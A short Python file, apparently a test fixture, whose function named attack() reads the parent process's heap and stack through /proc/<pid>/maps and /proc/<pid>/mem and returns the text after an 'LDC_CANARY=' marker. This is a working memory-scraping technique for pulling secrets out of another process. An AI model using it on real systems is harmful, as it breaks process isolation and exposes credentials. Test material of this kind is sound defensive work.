# Reads the memory of the parent, page by page.
import os


def attack():
    who = os.getppid()
    with open(f"/proc/{who}/maps") as maps, open(f"/proc/{who}/mem", "rb") as memory:
        for line in maps:
            if "[heap]" in line or "[stack]" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                text = memory.read(end - start)
                place = text.find(b"LDC_CANARY=")
                if place >= 0:
                    return text[place : place + 80].decode("latin-1")
    raise ValueError("not found")
